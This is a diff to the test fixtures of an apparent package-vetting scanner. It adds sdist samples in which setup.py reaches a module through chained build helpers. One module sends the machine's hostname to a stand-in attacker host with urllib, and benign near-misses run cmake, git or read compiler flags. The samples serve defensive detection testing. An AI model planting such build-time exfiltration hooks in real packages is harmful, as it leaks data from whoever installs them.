@@ -1,10 +1,12 @@
 """The twenty-third probe (ADR 0126): what ADRs 0119, 0122 and 0123 left undetected. A
 method reached by ``getattr`` of an object that is not a local name, or kept in a name
 first (``w = f.write; w(x)``); a pool mapping itself over a list it builds first, or queueing
-a partner that calls it back; and the machine put to sleep by Windows' own calls.
+a partner that calls it back; the machine put to sleep by Windows' own calls; a module that
+only a chain of setup.py's build helpers reaches (held); and a gadget pickle kept in the
+source and loaded.
 
 Each sample is inert (vetting only reads files). The near-misses are what loggers, caches,
-downloaders, crawlers, thread pools and power tools do."""
+downloaders, crawlers, thread pools, build helpers and power tools do."""
 
 from __future__ import annotations
 
@@ -134,7 +136,31 @@ DENIED: dict[str, dict[str, str]] = {
     ),
 }
 
+# 5. setup.py importing a build helper that imports another root-level module.
+SETUP_WITH_HELPER = (
+    "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n"
+    "import _build\nfrom setuptools import setup\nsetup(name='evpkg', version='1.0')\n"
+)
+HOST_SENT = (
+    "import socket, urllib.request\ndef run():\n"
+    "    urllib.request.urlopen('https://sink.attacker.invalid/c?h=' + socket.gethostname())\n"
+)
+
+
+def built(*chain: tuple[str, str]) -> dict[str, str]:
+    """An sdist whose setup.py imports ``_build``, with the root-level modules ``chain``."""
+    return {"setup.py": SETUP_WITH_HELPER, "evpkg/__init__.py": "", **dict(chain)}
+
+
 HELD: dict[str, dict[str, str]] = {
+    "host-name-sent-by-a-module-a-build-helper-calls": built(
+        ("_build.py", "import pre_install\npre_install.run()\n"), ("pre_install.py", HOST_SENT)
+    ),
+    "host-name-sent-by-a-module-two-build-helpers-away": built(
+        ("_build.py", "import _steps\n"),
+        ("_steps.py", "from pre_install import run\nrun()\n"),
+        ("pre_install.py", HOST_SENT),
+    ),
     "set-suspend-state-when-called": init(
         "import ctypes\ndef sleep_now():\n    ctypes.windll.powrprof.SetSuspendState(0, 1, 0)\n"
     ),
@@ -220,6 +246,41 @@ ALLOWED: dict[str, dict[str, str]] = {
     ),
     "stream-of-a-gadget-pickle-never-loaded": init(
         f"import base64, io\nB = '{b64(SYSTEM)}'\nRAW = io.BytesIO(base64.b64decode(B)).read()\n"
+    ),
+    # 5. Build helpers chained as real builds chain them.
+    "cmake-run-by-a-module-a-build-helper-imports": built(
+        ("_build.py", "import _compile\n_compile.cmake()\n"),
+        (
+            "_compile.py",
+            (
+                "import os, subprocess\ndef cmake():\n    os.makedirs('build', exist_ok=True)\n"
+                "    subprocess.check_call(['cmake', '-S', '.', '-B', 'build'])\n"
+            ),
+        ),
+    ),
+    "version-from-git-by-a-module-a-build-helper-imports": built(
+        ("_build.py", "import _version\nVERSION = _version.get()\n"),
+        (
+            "_version.py",
+            (
+                "import subprocess\ndef get():\n"
+                "    return subprocess.check_output(['git', 'describe', '--tags']).decode()\n"
+            ),
+        ),
+    ),
+    "compiler-flags-from-the-environment-two-build-helpers-away": built(
+        ("_build.py", "import _steps\n"),
+        ("_steps.py", "import _flags\nCFLAGS = _flags.get()\n"),
+        (
+            "_flags.py",
+            (
+                "import os, sysconfig\ndef get():\n    flags = os.environ.get('CFLAGS', '')\n"
+                "    return flags + (sysconfig.get_config_var('CFLAGS') or '')\n"
+            ),
+        ),
+    ),
+    "host-name-sent-by-a-root-module-no-build-helper-imports": built(
+        ("_build.py", "X = 1\n"), ("pre_install.py", HOST_SENT)
     ),
     # 4. Power calls that keep the machine awake or are only named.
     "keep-awake-while-training-on-import": init(
